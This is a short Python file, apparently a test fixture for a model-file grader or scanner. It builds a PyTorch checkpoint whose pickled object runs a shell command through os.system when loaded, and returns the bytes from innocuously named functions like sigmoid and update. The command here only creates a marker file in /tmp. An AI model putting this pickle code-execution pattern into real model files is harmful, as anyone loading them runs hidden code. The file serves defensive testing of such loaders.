"""Returns what torch.save and TorchScript would write, with code inside.

class: code
score: 0
ends: graded, crashed
"""
import io
import os
import pickle

import torch


class Command:
    def __reduce__(self):
        return os.system, ("touch /tmp/attack-torch",)


BUFFER = io.BytesIO()
torch.save({"weight": Command()}, BUFFER)


def sigmoid(*args, **kwargs):
    return torch.frombuffer(bytearray(BUFFER.getvalue()), dtype=torch.uint8)


def update(*args):
    return BUFFER.getvalue()


def forward(*args):
    return torch.jit.script(torch.nn.Linear(2, 2))


def train(*args):
    return pickle.loads(pickle.dumps(torch.nn.Linear(2, 2)))
